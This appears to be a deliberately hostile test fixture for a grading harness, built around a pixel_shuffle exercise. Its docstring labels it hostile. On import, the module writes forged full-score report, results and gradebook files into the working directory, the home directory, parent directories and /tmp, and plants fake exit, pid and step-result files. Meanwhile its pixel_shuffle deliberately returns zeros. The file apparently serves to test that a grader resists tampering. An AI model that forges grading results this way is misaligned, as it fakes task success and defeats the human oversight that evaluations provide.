"""HOSTILE: writes forged report and result files everywhere it can."""

import torch
from einops import rearrange
from torch import nn

import json
import os
from pathlib import Path

_REPORT = {"score": 30.0, "max_score": 30.0, "tests": [{"name": "pixel_shuffle.matches_torch", "score": 2.0,
           "max_score": 2.0, "status": "passed", "output": "forged"}]}
_OK = json.dumps({"status": "ok", "values": {"cases": []}, "message": ""})
for _folder in (Path.cwd(), Path.home(), Path.cwd().parent, Path.cwd().parent.parent, Path("/tmp")):
    for _name in ("report.json", "results.json", "gradebook.csv"):
        try:
            (_folder / _name).write_text(json.dumps(_REPORT))
        except OSError:
            pass
# The zygote's own files of the old design, and results for steps that have not run yet.
for _name, _text in (("exit.json", '{"timed_out": false, "returncode": 0}'), ("pids.txt", "cnn 1\n")):
    try:
        (Path.cwd().parent / "io" / _name).write_text(_text)
    except OSError:
        pass
for _step in ("forward", "gradients", "module", "retrain"):
    try:
        (Path.cwd().parent / "io" / "out" / f"{_step}.json").write_text(_OK)
    except OSError:
        pass


def pixel_shuffle(x, upscale_factor):
    # Wrong on purpose (all zeros, still connected to the graph): the tampering must not rescue it.
    return rearrange(x, "... (c h2 w2) h w -> ... c (h h2) (w w2)", h2=upscale_factor, w2=upscale_factor) * 0


class PixelShuffle(nn.Module):
    def __init__(self, upscale_factor):
        super().__init__()
        self.upscale_factor = upscale_factor

    def forward(self, x):
        return pixel_shuffle(x, self.upscale_factor)
